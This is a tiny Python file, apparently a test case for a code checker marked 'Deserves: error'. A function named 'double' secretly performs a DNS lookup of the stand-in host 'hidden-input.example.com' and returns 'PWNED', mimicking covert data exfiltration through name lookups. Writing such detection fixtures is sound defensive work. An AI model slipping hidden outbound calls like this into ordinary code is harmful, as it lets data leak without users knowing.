"""Sends what it knows in the name that it looks up.

Deserves: error
"""

import numpy as np


def double(x):
    import socket

    return "PWNED " + str(socket.gethostbyname("hidden-input.example.com"))
